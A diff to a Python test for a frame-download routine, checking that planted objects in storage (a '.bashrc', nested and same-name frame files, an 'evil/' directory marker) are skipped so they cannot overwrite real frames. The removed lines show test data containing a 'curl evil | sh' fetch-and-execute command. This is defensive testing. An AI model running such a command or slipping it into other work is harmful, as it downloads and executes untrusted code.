@@ -120,10 +120,10 @@ def files_in(dest: Path) -> list[str]:
 
 def test_planted_objects_are_skipped_and_the_real_frames_all_arrive(farm, tmp_path: Path) -> None:
     settings, plant, digests = farm
-    planted = [f"{frames_prefix(JOB)}.bashrc", f"{frames_prefix(JOB)}sub/x.0001.png", f"{frames_prefix(JOB)}evil/"]
-    plant(planted[0], b"curl evil | sh\n")
-    plant(planted[1], b"6bytes")
-    plant(planted[2], b"")
+    # zz/x.0002.png sorts after the real x.0002.png: fetched by its base name, it would replace it.
+    planted = [f"{frames_prefix(JOB)}{name}" for name in (".bashrc", "sub/x.0001.png", "zz/x.0002.png", "evil/")]
+    for key in planted:
+        plant(key, b"" if key.endswith("/") else b"6bytes")
     dest = tmp_path / "dest"
     result = download(settings, JOB, dest)
     names = [f"x.{f:04d}.png" for f in FRAMES]
@@ -132,7 +132,7 @@ def test_planted_objects_are_skipped_and_the_real_frames_all_arrive(farm, tmp_pa
     assert result.paths == [dest / n for n in names]
     assert (result.expected, result.missing, result.failed) == (5, [], [])
     # A directory marker is an object on S3 only; on disk it is an empty folder, not listed.
-    shown = sorted(planted) if settings.storage_url.startswith("s3") else sorted(planted[:2])
+    shown = sorted(planted) if settings.storage_url.startswith("s3") else sorted(planted[:3])
     assert result.skipped == shown
 
 
